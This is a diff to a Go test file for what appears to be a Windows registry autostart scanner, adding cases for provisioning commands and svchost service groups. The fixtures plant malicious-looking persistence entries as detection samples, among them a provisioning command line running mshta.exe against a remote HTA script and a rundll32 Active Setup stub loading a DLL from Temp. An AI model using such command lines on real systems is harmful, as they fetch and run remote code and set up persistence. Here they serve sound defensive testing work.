@@ -112,6 +112,35 @@ func TestServiceFamilyAutostarts(t *testing.T) {
 		{"active setup rundll32 payload in Temp", ActiveSetup, func(h sampleHost) {
 			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{EVIL}`, hivetest.SZ("StubPath", `rundll32.exe C:\Windows\Temp\x.dll,Run`))
 		}, report.High, "activesetup.stubpath"},
+		{"no provisioning commands", Provisioning, func(h sampleHost) {}, report.Info, ""},
+		{"provisioning command of a product", Provisioning, func(h sampleHost) {
+			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\AcmeSetup\{5E1A}`, hivetest.DWORD("altitude", 0))
+			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\AcmeSetup\{5E1A}\1`, hivetest.SZ("CommandLine", `"C:\Program Files\Acme\setup.exe" /quiet`))
+		}, report.Medium, "provisioning.command"},
+		{"provisioning command runs a remote script", Provisioning, func(h sampleHost) {
+			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\Provisioning\Commands\LOLBin\dummy1`, hivetest.DWORD("altitude", 0))
+			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\Provisioning\Commands\LOLBin\dummy1\dummy2`, hivetest.SZ("Commandline", `mshta.exe http://203.0.113.5/p.hta`))
+		}, report.High, "provisioning.command"}, // a remote script: the assessor raises it
+		{"command line outside the step layout", Provisioning, func(h sampleHost) {
+			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\LOLBin`, hivetest.SZ("CommandLine", `C:\Users\Public\p.exe`))
+		}, report.Info, ""},
+		{"svchost groups match", Svchost, func(h sampleHost) {
+			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
+		}, report.Info, ""},
+		{"svchost group leftover", Svchost, func(h sampleHost) {
+			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache", "Nla"))
+		}, report.Low, "svchost.group-missing-service"},
+		{"svchost group not defined", Svchost, func(h sampleHost) {
+			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
+			samples.Set(h.cs(), `Services\UpdSvc`, ownProcess(`%SystemRoot%\system32\svchost.exe -k UpdGroup`)...)
+		}, report.Medium, "svchost.unknown-group"},
+		{"disabled service of an undefined svchost group", Svchost, func(h sampleHost) {
+			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
+			samples.Set(h.cs(), `Services\OldSvc`, hivetest.ExpandSZ("ImagePath", `%SystemRoot%\system32\svchost.exe -k OldGroup`), hivetest.DWORD("Type", 0x20), hivetest.DWORD("Start", 4))
+		}, report.Low, "svchost.unknown-group"},
+		{"svchost groups unknown without a Svchost key", Svchost, func(h sampleHost) {
+			samples.Set(h.cs(), `Services\UpdSvc`, ownProcess(`%SystemRoot%\system32\svchost.exe -k UpdGroup`)...)
+		}, report.Info, ""},
 		{"active setup uninstalled", ActiveSetup, func(h sampleHost) {
 			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{EVIL}`, hivetest.SZ("StubPath", `C:\ProgramData\u\u.exe`), hivetest.DWORD("IsInstalled", 0))
 		}, report.Info, ""},
